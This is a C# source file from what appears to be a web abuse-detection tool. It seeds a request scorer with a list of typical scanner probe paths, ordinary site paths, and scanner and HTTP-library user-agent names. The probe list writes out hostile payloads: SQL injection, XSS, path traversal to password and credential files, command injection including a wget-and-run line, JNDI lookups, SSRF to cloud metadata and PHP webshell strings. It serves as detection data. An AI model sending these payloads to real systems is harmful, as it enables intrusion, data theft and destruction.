namespace Presage.Content;

/// <summary>
/// What scanners generally ask for, and what sites generally have, so that a new site's scorer is not blind; written for this project from general knowledge, of
/// no log. Only their trigrams count, and the site's own requests soon outweigh the second list.
/// </summary>
internal static class AbusePrior
{
    private const string ProbeLines =
        """
        /wp-login.php
        /wp-admin/setup-config.php?step=1
        /wp-content/plugins/revslider/temp/update_extract/shell.php
        /wordpress/wp-admin/
        /xmlrpc.php
        /administrator/index.php
        /admin.php
        /admin/login.php
        /admin/config.php
        /phpmyadmin/index.php?lang=en
        /phpMyAdmin/scripts/setup.php
        /pma/index.php
        /mysql/admin/index.php
        /dbadmin/
        /myadmin/
        /sqlmanager/
        /.env
        /.env.bak
        /.git/config
        /.git/HEAD
        /.svn/entries
        /.hg/hgrc
        /.htaccess
        /.htpasswd
        /.aws/credentials
        /.ssh/id_rsa
        /.bash_history
        /.DS_Store
        /web.config
        /config.php.bak
        /config.inc.php~
        /configuration.php.old
        /database.sql
        /backup.zip
        /backup.tar.gz
        /dump.sql.gz
        /db.sqlite
        /server-status
        /server-info
        /phpinfo.php
        /info.php
        /test.php
        /shell.php
        /cmd.php?cmd=id
        /c99.php
        /r57.php
        /webshell.aspx
        /cgi-bin/test-cgi
        /cgi-bin/bash
        /cgi-bin/php?-d+allow_url_include=on+-d+auto_prepend_file=php://input
        /manager/html
        /host-manager/html
        /jmx-console/
        /web-console/
        /invoker/JMXInvokerServlet
        /axis2/axis2-admin/
        /struts2-showcase/index.action
        /solr/admin/cores
        /actuator/env
        /actuator/health
        /jenkins/script
        /owa/auth/logon.aspx
        /autodiscover/autodiscover.xml
        /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application
        /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
        /boaform/admin/formLogin?username=admin&psd=admin
        /HNAP1/
        /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/var/*;wget+http://0.0.0.0/x+-O+/var/x;sh+x
        /fckeditor/editor/filemanager/connectors/php/connector.php
        /ckeditor/filemanager/
        /user/register
        /user/login
        /account/login.aspx
        /trackback/
        /CVS/Entries
        /WEB-INF/web.xml
        /META-INF/context.xml
        /crossdomain.xml
        /clientaccesspolicy.xml
        /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir
        /../../../../../../etc/passwd
        /..%2f..%2f..%2f..%2fetc%2fpasswd
        /....//....//....//etc/shadow
        /%2e%2e/%2e%2e/%2e%2e/windows/win.ini
        /..\..\..\..\windows\system32\drivers\etc\hosts
        ?file=../../../../etc/passwd%00
        ?page=/proc/self/environ
        ?path=c:\boot.ini
        ?include=http://example.com/shell.txt?
        ?url=file:///etc/passwd
        ?page=php://filter/convert.base64-encode/resource=index
        ?x=data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+
        ?id=1'
        ?id=1"
        ?id=1%27%20OR%20%271%27=%271
        ?id=1' or 1=1--
        ?id=1' or '1'='1
        ?id=1" or "a"="a
        ?id=1 and 1=1
        ?id=1 and 1=2
        ?id=-1 union select 1,2,3,4,5--
        ?id=1 UNION ALL SELECT NULL,NULL,NULL,NULL#
        ?id=1 union select concat(user,0x3a,password) from users--
        ?id=1;select pg_sleep(5)--
        ?id=1' and sleep(5)#
        ?id=(select(0)from(select(sleep(15)))v)
        ?id=1 waitfor delay '0:0:5'--
        ?id=1;exec xp_cmdshell('ping 0.0.0.0')--
        ?id=1 and extractvalue(1,concat(0x7e,version()))
        ?id=1' order by 10--+
        ?id=1 and (select count(*) from information_schema.tables)>0
        ?id=benchmark(10000000,md5(1))
        ?id=1||utl_http.request('http://example.com')
        ?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E
        ?q=<script>alert(document.cookie)</script>
        ?q="><img src=x onerror=alert(1)>
        ?q='><svg/onload=confirm(1)>
        ?q=javascript:alert(1)
        ?q=" onmouseover=prompt(1) bad="
        ?q=<iframe src=javascript:alert(1)>
        ?q=<body onload=alert(1)>
        ?q=--><script>
        ?q=%253Cscript%253E
        ?cmd=;id
        ?cmd=|cat /etc/passwd
        ?cmd=`whoami`
        ?cmd=$(uname -a)
        ?ip=127.0.0.1;ls -la
        ?ip=127.0.0.1&&dir
        ?host=|ping -n 20 127.0.0.1||
        ?x=${jndi:ldap://example.com/a}
        ?x=${${lower:j}ndi:dns://example.com}
        ?name={{7*7}}
        ?name=${7*7}
        ?name=#{7*7}
        ?name=<%= 7*7 %>
        ?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
        ?redirect=//example.com
        ?url=http://169.254.169.254/latest/meta-data/
        ?x=%0d%0aSet-Cookie:crlf=injection
        ?x=%0aContent-Length:0
        ?x=<!--#exec cmd="ls"-->
        ?x=*)(uid=*))(|(uid=*
        ?x=' or count(/*)=1 or '
        ?x[$ne]=1
        ?x={"$gt":""}
        ?debug=true&test=1&admin=1
        ?-s
        ?=PHPE9568F34-D428-11d2-A769-00AA001ACF42
        ?page=../../index.php%00.html
        ?lang=../../../../boot.ini%00
        ?template=print(md5(12345))
        ?a=phpinfo()
        ?a=eval(base64_decode($_POST[x]))
        ?a=system('id')
        ?a=assert(1)
        ?a=response.write(9*9)
        ?a=%00
        ?a=%ff%fe
        ?a=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
        ?a=%n%n%n%n%s%s%s%s
        ?a=;print(1);
        ?a=!(()&&!|*|*|
        ?a=^(#$!@#$)(()))******
        """;

    private const string PlainLines =
        """
        /
        /index.html
        /index.php
        /favicon.ico
        /robots.txt
        /sitemap.xml
        /apple-touch-icon.png
        /apple-touch-icon-precomposed.png
        /images/logo.png
        /images/header.jpg
        /images/background.gif
        /img/icons/arrow-right.svg
        /css/style.css
        /css/bootstrap.min.css?v=3.3.7
        /js/jquery-1.9.1.min.js
        /js/main.js
        /static/app.js
        /static/fonts/fontawesome-webfont.woff2?v=4.7.0
        /assets/images/photo-1024x768.jpg
        /media/video/intro.mp4
        /about
        /about/contact.html
        /contact
        /news/
        /news/2015/05/17/some-title-of-an-article.html
        /blog/
        /blog/tags/open%20source
        /blog/posts/how-to-use-it-with-linux
        /blog/index.xml
        /feed/
        /feeds/rss.xml
        /articles/1234
        /category/shoes/page/2/
        /products/blue-shirt-large
        /product?id=1234
        /products/list?page=2&sort=price
        /search?q=blue+shirt
        /search?query=how%20to
        /search/?q=caf%C3%A9
        /shop/item/56789
        /cart
        /download/tool-1.2.3.tar.gz
        /files/report-2014.pdf
        /docs/manual/en/installation.html
        /help/faq.html
        /users/profile
        /api/v1/items/42
        /api/items?limit=20&offset=40
        /events/calendar?month=5&year=2015
        /history/missions/summary.txt
        /projects/
        /presentations/slides/images/title.png
        /?utm_source=newsletter&utm_medium=email&utm_campaign=spring
        /?page=3
        /?lang=en
        /en/home
        /de/start
        /map?lat=52.52&lon=13.40&zoom=12
        /gallery/summer/img_0042.jpg
        /themes/default/print.css
        /~name/papers/index.html
        /cgi-bin/imagemap/menu?110,98
        """;

    // Parts of agents' names, compared without case.
    private static readonly string[] Scanners =
    [
        "sqlmap", "nikto", "acunetix", "netsparker", "nessus", "openvas", "nmap", "masscan", "zgrab", "zmeu", "dirbuster", "gobuster", "dirb", "feroxbuster", "ffuf",
        "wfuzz", "wpscan", "joomscan", "w3af", "arachni", "burp", "owasp", "havij", "hydra", "nuclei", "morfeus", "jorgee", "whatweb", "fimap", "skipfish", "paros",
    ];

    private static readonly string[] Libraries =
    [
        "curl", "wget", "python", "libwww", "perl", "java/", "go-http", "okhttp", "httpclient", "ruby", "php/", "node-fetch", "axios", "aiohttp", "headless", "phantom", "winhttp",
    ];

    public static IEnumerable<string> Probes => ProbeLines.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries);

    public static IEnumerable<string> Plain => PlainLines.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries);

    /// <summary>0 for any other agent, 1 a library, 2 none, 3 a scanner that says so.</summary>
    public static int AgentKind(string agent)
    {
        if (agent.Length == 0) return 2;
        if (Array.Exists(Scanners, name => agent.Contains(name, StringComparison.OrdinalIgnoreCase))) return 3;
        return Array.Exists(Libraries, name => agent.Contains(name, StringComparison.OrdinalIgnoreCase)) ? 1 : 0;
    }
}
